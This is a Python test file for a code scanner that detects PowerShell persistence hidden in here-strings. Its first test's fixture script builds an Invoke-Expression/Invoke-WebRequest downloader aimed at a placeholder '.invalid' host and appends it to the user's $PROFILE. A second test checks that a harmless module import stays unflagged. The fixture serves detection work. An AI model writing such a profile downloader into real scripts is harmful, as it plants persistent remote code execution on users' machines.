"""A PowerShell here-string whose line starts with a variable (``@"⏎$hook⏎"@``) holds that
variable's value: the grammar's variable node starts with the line break, which once made the
variable unknown, so a profile block built around a downloader read as harmless text. Hosts are
``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_profile_block_with_the_downloader_on_its_own_line(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/Install.ps1": "$src = 'https://prompt-themes.invalid/t/load.ps1'\n"
            "$hook = \"Invoke-Expression (Invoke-WebRequest -UseBasicParsing '$src').Content\"\n"
            '$snippet = @"\n'
            "# theme loader\n"
            "$hook\n"
            '"@\n'
            "$snippet | Out-File -Append -FilePath $PROFILE\n"
        },
    )
    assert ("PERSISTENCE", "scripts/Install.ps1", 7) in errors


def test_profile_block_importing_a_module_stays_clean(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/Install.ps1": "$line = 'Import-Module PromptThemes'\n"
            '$snippet = @"\n'
            "# theme loader\n"
            "$line\n"
            '"@\n'
            "$snippet | Out-File -Append -FilePath $PROFILE\n"
        },
    )
    assert not errors
